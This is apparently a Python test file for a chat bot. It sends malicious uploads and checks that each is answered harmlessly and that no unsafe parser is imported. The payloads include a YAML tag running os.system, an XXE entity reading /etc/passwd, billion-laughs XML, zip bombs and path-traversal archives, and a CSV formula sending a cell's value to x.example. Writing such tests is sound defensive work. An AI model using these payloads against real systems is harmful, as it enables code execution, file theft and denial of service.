"""Files that are made to harm whoever opens them, handed over in a chat: each is answered in words, nothing comes of it, and what could open the worst of them is not in the product."""

import ast
import io
import logging
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from time import process_time

import pytest

import bots.dialogs  # noqa: F401
from bots.kit.parts import Parts
from bots.kit.tokens import Tokens
from bots.kit.words import Words
from core.catalog.kinds import templates
from storage import Storage
from tests.bots.dialogs.person import Person
from tests.databases import somebody

ROOT = Path(__file__).parents[2]
ENTITIES = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + b"".join(
    b'<!ENTITY %c "&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;">' % ((n + 1, *[n] * 8)) for n in range(ord("a"), ord("p"))
) + b"]><svg>&p;</svg>"  # fmt: skip
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg><text>&e;</text></svg>'
ALIASES = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "\n".join(
    f"{chr(n + 1)}: &{chr(n + 1)} [{', '.join([f'*{chr(n)}'] * 9)}]" for n in range(ord("a"), ord("n"))
)
OPENS = {"xml": {"xml.sax.saxutils"}, "lxml": set(), "PIL": set(), "pickle": set(), "marshal": set(), "shelve": set(), "csv": set(), "openpyxl": set(), "docx": set(), "defusedxml": set()}  # fmt: skip
"""What reads XML, pictures or Python's own bytes, or writes tables that a spreadsheet would take for formulas: nothing of it is imported, save what is named."""


def _packed(*entries: tuple[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return made.getvalue()


def _picture(side: int) -> bytes:
    """A PNG that says that it is so large, and is a few bytes."""
    header = side.to_bytes(4) * 2 + b"\x08\x02\x00\x00\x00"
    chunk = b"IHDR" + header
    return b"\x89PNG\r\n\x1a\n" + len(header).to_bytes(4) + chunk + zlib.crc32(chunk).to_bytes(4)


FILES: list[tuple[str, Callable[[], bytes]]] = [
    ("aliases.yaml", ALIASES.encode),
    ("tags.yaml", lambda: b"agents: !!python/object/apply:os.system ['touch /tmp/nod-was-here']\n"),
    ("merge.yml", lambda: b"a: &a {<<: *a}\n"),
    ("deep.yaml", lambda: b"[" * 100_000),
    ("twice.yaml", lambda: b"agents: []\nagents: []\n"),
    ("zeros.zip", lambda: _packed(("mail.eml", b"\0" * 60_000_000))),
    ("nested.zip", lambda: _packed(("in.zip", _packed(("in.zip", _packed(("mail.eml", b"\0" * 30_000_000))))))),
    ("outside.zip", lambda: _packed(("../../../tmp/nod-was-here", b"x"), ("/etc/nod", b"x"))),
    ("many.zip", lambda: _packed(*((f"{n}.eml", b"") for n in range(5_000)))),
    ("no.zip", lambda: b"PK\x03\x04" + b"\xff" * 500),
    ("entities.svg", lambda: ENTITIES),
    ("outside.svg", lambda: OUTSIDE),
    ("letter.docx", lambda: _packed(("word/document.xml", ENTITIES), ("[Content_Types].xml", OUTSIDE))),
    ("wide.png", lambda: _picture(2**31 - 1)),
    ("table.csv", lambda: b'=HYPERLINK("http://x.example/?"&A1),@SUM(1),+1,-1\n'),
    ("mail.eml", lambda: b"Content-Type: multipart/mixed; boundary=b\n\n" + b"--b\nContent-Type: multipart/mixed; boundary=b\n\n" * 20_000),
    ("days.ics", lambda: b"BEGIN:VCALENDAR\n" * 50_000),
]  # fmt: skip


@pytest.fixture
def person(storage: Storage, catalogue: Words) -> Iterator[Person]:
    parts = Parts(storage, catalogue, Tokens(b"k" * 32), templates())
    yield Person(parts, somebody(storage))
    parts.close()


def test_every_file_is_answered_in_words_at_once_and_nothing_comes_of_it(
    person: Person, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.ERROR)
    for name, made in FILES:
        content, before = made(), process_time()
        said = person.sends(name, content)
        assert said.strip(), name
        assert process_time() - before < 5, f"{name} was worked on"
        assert not caplog.records, (name, caplog.text)
        person.says("/cancel")
    assert not Path("/tmp/nod-was-here").exists()
    with person.work() as work:
        assert work.agents.page(None, None, 10) == [] and work.connections.page(None, 10) == []


def test_what_would_open_pictures_documents_and_python_objects_is_not_imported_anywhere() -> None:
    found: list[str] = []
    for room in ("bots", "core", "runners", "storage"):
        for file in (ROOT / room).rglob("*.py"):
            for node in ast.walk(ast.parse(file.read_text("utf-8"))):
                names = [one.name for one in node.names] if isinstance(node, ast.Import) else []
                names += [node.module] if isinstance(node, ast.ImportFrom) and node.module and not node.level else []
                for name in names:
                    known = OPENS.get(name.partition(".")[0])
                    if known is not None and name not in known:
                        found.append(f"{file.relative_to(ROOT)}: {name}")
                if isinstance(node, ast.Attribute) and node.attr in ("unsafe_load", "full_load", "UnsafeLoader", "FullLoader"):  # fmt: skip
                    found.append(f"{file.relative_to(ROOT)}: yaml.{node.attr}")
    assert found == []
